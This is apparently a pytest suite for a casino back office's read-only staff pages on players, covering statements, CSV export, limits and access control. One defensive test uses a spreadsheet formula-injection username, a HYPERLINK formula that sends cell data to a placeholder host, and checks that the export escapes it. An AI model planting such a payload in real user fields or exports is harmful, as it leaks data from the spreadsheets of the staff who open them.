"""The staff's player pages: pit staff and auditors find a player by name and read the account,
the wallets, the statement of the last twelve months (and its CSV), the seats at peer tables and
the latest rounds, linked to their replay; over the staff API the same. Players get 403 and
nobody changes anything here."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from decimal import Decimal

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from casino.gaming_day import gaming_day_of
from casino.roles import PLAYER
from games.joker_draw import services as joker_draw
from games.joker_draw.services import BoxRequest
from games.models import Round
from games.stud.tasks import STUD as stud
from payouts.protection.conduct import take_exclusion
from payouts.protection.limits import set_limit
from payouts.protection.models import ExclusionKind, LimitKind
from payouts.protection.statement import statement
from payouts.services import deposit
from tests.fixtures.tables import make_stud_table
from tests.fixtures.users import api_client, logged_in, make_user

D = Decimal
PLAYERS = "/staff/players/"


def page(pk: int) -> str:
    return f"/staff/players/{pk}/"


def api(pk: int) -> str:
    return f"/api/v1/staff/players/{pk}/"


def csv_url(pk: int) -> str:
    return f"/staff/players/{pk}/statement.csv"


@pytest.fixture
def regular(funded_player, joker_table, pit, pit2, settings):
    """Alice with 100.00: two joker draw rounds played, and seated at a stud table now."""
    for action in ("fold", "bet"):
        round_ = joker_draw.open_round(
            player=funded_player, table=joker_table, boxes=[BoxRequest(1, D("0.30"))]
        ).round
        joker_draw.act(player=funded_player, round_id=round_.pk, box=1, action=action)
    settings.STUD_HAND_PAUSE_SECONDS = 3600
    table = make_stud_table(pit, pit2, name="Stud East")
    stud.join(player=funded_player, table=table, seat=3, buy_in=D("50.00"))
    return funded_player


@pytest.mark.parametrize("who", ["pit", "auditor"])
def test_staff_read_a_players_page(regular, request, who):
    reader = request.getfixturevalue(who)
    response = logged_in(reader).get(page(regular.pk))
    assert response.status_code == 200
    found = response.context["file"]
    assert found.player == regular
    assert [(w.currency, w.balance) for w in found.wallets] == [
        ("USD", regular.accounts.get().balance)
    ]
    totals = found.statement.currencies[0].totals
    assert totals.deposits == D("100.00")
    assert totals.closing_balance == regular.accounts.get().balance
    today = gaming_day_of(timezone.now())
    assert (found.statement.first_day, found.statement.last_day) == (
        today.replace(year=today.year - 1) + timedelta(days=1),
        today,
    )
    assert [(s.table.name, s.number, s.chips) for s in found.seats] == [
        ("Stud East", 3, D("50.00"))
    ]
    assert len(found.rounds) == 2
    html = response.content.decode()
    for row in found.rounds:
        assert f'href="{reverse("staff:round", args=[row.round.pk])}"' in html
    assert f"{csv_url(regular.pk)}?from={found.statement.first_day}&amp;to={today}" in html


def test_the_players_are_searched_by_name_and_paged(db, pit, auditor):
    for number in range(52):
        make_user(f"guest{number:02}", PLAYER)
    make_user("hostess", PLAYER)
    client = logged_in(auditor)
    first = client.get(PLAYERS)
    names = [user.username for user in first.context["page"]]
    assert len(names) == 50
    assert "pitboss" not in names
    assert "auditor" not in names  # staff are no players
    second = client.get(PLAYERS, {"page": 2})
    assert [user.username for user in second.context["page"]] == ["guest50", "guest51", "hostess"]
    found = client.get(PLAYERS, {"q": "HOST"})
    assert [user.username for user in found.context["page"]] == ["hostess"]
    assert f'href="{page(found.context["page"][0].pk)}"' in found.content.decode()


def test_a_staff_member_has_no_players_page(db, pit, auditor):
    assert logged_in(auditor).get(page(pit.pk)).status_code == 404
    assert api_client(auditor).get(api(pit.pk)).status_code == 404


def test_the_statement_csv_for_staff(regular, auditor):
    today = gaming_day_of(timezone.now())
    first = today - timedelta(days=6)
    response = logged_in(auditor).get(csv_url(regular.pk), {"from": first, "to": today})
    assert response.status_code == 200
    assert response["Content-Disposition"] == (
        f'attachment; filename="statement_alice_{first}_{today}.csv"'
    )
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    total = next(row for row in rows if row["period"] == "total")
    expected = statement(regular, first, today).currencies[0].totals
    assert (total["player"], total["currency"]) == ("alice", "USD")
    assert D(total["deposits"]) == expected.deposits == D("100.00")
    assert D(total["stakes"]) == expected.stakes > D("50.00")
    assert D(total["closing_balance"]) == regular.accounts.get().balance
    bad = logged_in(auditor).get(csv_url(regular.pk), {"from": today, "to": first})
    assert bad.status_code == 400
    assert "date_order" in bad.content.decode()


def test_a_formula_in_a_user_name_stays_text(db, pit, auditor):
    """A name the admin or an integrator let in unchecked is never a formula in the CSV, nor a
    header or path in its file name."""
    name = '=HYPERLINK("http://x/?"&A1,"x")'
    player = make_user(name, PLAYER)
    deposit(player=player, currency="USD", amount=D("5.00"), reason="cash", by=pit)
    response = logged_in(auditor).get(csv_url(player.pk))
    text = b"".join(response.streaming_content).decode()
    rows = list(csv.reader(io.StringIO(text)))
    assert {row[0] for row in rows[1:]} == {"'" + name}
    assert response["Content-Disposition"].startswith(
        'attachment; filename="statement_hyperlinkhttpxa1x_'
    )
    own = api_client(player).get("/api/v1/me/statement/", {"format": "csv"})
    own_rows = list(csv.reader(io.StringIO(b"".join(own.streaming_content).decode())))
    assert {row[0] for row in own_rows[1:]} == {"'" + name}
    listing = logged_in(auditor).get(PLAYERS).content.decode()
    assert "=HYPERLINK(&quot;http://x/?&quot;&amp;A1,&quot;x&quot;)" in listing


def test_the_staff_api_gives_the_same(regular, auditor):
    body = api_client(auditor).get(api(regular.pk)).json()
    assert (body["id"], body["username"]) == (regular.pk, "alice")
    assert body["wallets"] == [
        {"currency": "USD", "balance": f"{regular.accounts.get().balance:.2f}"}
    ]
    usd = body["statement"]["currencies"][0]
    assert usd["deposits"] == "100.00"
    assert usd["closing_balance"] == body["wallets"][0]["balance"]
    assert [(s["table_name"], s["seat"], s["chips"]) for s in body["seats"]] == [
        ("Stud East", 3, "50.00")
    ]
    assert len(body["recent_rounds"]) == 2
    assert {r["staked"] for r in body["recent_rounds"]} >= {"0.30"}


# The attacker -------------------------------------------------------------------------------


def test_players_get_403_everywhere(regular, other_player):
    client = logged_in(other_player)
    for url in (PLAYERS, page(regular.pk), csv_url(regular.pk)):
        assert client.get(url).status_code == 403, url
    assert api_client(other_player).get(api(regular.pk)).status_code == 403
    assert api_client(regular).get(api(regular.pk)).status_code == 403  # not even one's own


def test_visitors_are_asked_to_sign_in(regular):
    assert Client().get(page(regular.pk)).status_code == 302
    assert api_client(None).get(api(regular.pk)).status_code == 401


@pytest.mark.parametrize("who", ["pit", "auditor"])
@pytest.mark.parametrize("method", ["post", "put", "delete"])
def test_the_player_pages_only_read(regular, request, who, method):
    reader = request.getfixturevalue(who)
    balance = regular.accounts.get().balance
    for url in (PLAYERS, page(regular.pk), csv_url(regular.pk)):
        assert getattr(logged_in(reader), method)(url).status_code == 405, url
    assert getattr(api_client(reader), method)(api(regular.pk), {}).status_code == 405
    regular.refresh_from_db()
    assert regular.is_active
    assert regular.accounts.get().balance == balance


def test_player_names_on_the_staff_screens_link_to_their_page(regular, pit):
    client = logged_in(pit)
    link = f'href="{page(regular.pk)}"'
    assert link in client.get("/staff/payouts/rounds/").content.decode()
    assert link in client.get("/staff/").content.decode()  # seated at the stud table
    joker = Round.objects.filter(player=regular).first()
    assert link in client.get(reverse("staff:round", args=[joker.pk])).content.decode()


# The player's own protection, read by the staff ------------------------------------------------


@pytest.fixture
def protected(regular):
    """Alice lowered her daily loss limit to 40.00, asked to raise her deposit limit (pending
    the cooling-off), acknowledged no reality check yet and took a time-out of a week."""
    set_limit(player=regular, kind=LimitKind.LOSS_DAY, currency="USD", value=D("40.00"))
    set_limit(player=regular, kind=LimitKind.DEPOSIT_DAY, currency="USD", value=D("10.00"))
    set_limit(player=regular, kind=LimitKind.DEPOSIT_DAY, currency="USD", value=D("500.00"))
    take_exclusion(
        player=regular, kind=ExclusionKind.TIME_OUT, until=timezone.now() + timedelta(days=7)
    )
    return regular


@pytest.mark.parametrize("who", ["pit", "auditor"])
def test_staff_read_the_players_limits_and_breaks(protected, request, who):
    response = logged_in(request.getfixturevalue(who)).get(page(protected.pk))
    found = response.context["file"]
    loss = next(s for s in found.limits if s.kind == LimitKind.LOSS_DAY)
    deposit_ = next(s for s in found.limits if s.kind == LimitKind.DEPOSIT_DAY)
    assert (loss.value, loss.pending) == (D("40.00"), False)
    assert (deposit_.value, deposit_.pending, deposit_.pending_value) == (
        D("10.00"),
        True,
        D("500.00"),
    )
    assert [(c.limit.kind, c.old_value, c.new_value) for c in found.limit_changes] == [
        (LimitKind.DEPOSIT_DAY, D("10.00"), D("500.00")),
        (LimitKind.DEPOSIT_DAY, None, D("10.00")),
        (LimitKind.LOSS_DAY, None, D("40.00")),
    ]
    html = response.content.decode()
    assert 'data-testid="player-limits"' in html
    assert 'data-testid="limit-changes"' in html
    assert 'data-testid="exclusion-in-force"' in html
    # Read only: no form on the page could change a limit or lift the time-out.
    assert "<form" not in html.split('data-testid="player-limits"')[1]


def test_the_staff_api_gives_the_players_limits_and_breaks(protected, auditor):
    body = api_client(auditor).get(api(protected.pk)).json()
    loss = next(row for row in body["limits"] if row["kind"] == "loss_day")
    assert (loss["currency"], loss["value"]) == ("USD", "40.00")
    assert next((c["kind"], c["new_value"]) for c in body["limit_changes"]) == (
        "deposit_day",
        "500.00",
    )
    assert [(e["kind"], e["in_force"]) for e in body["exclusions"]] == [("time_out", True)]
    assert body["reality_checks"] == []
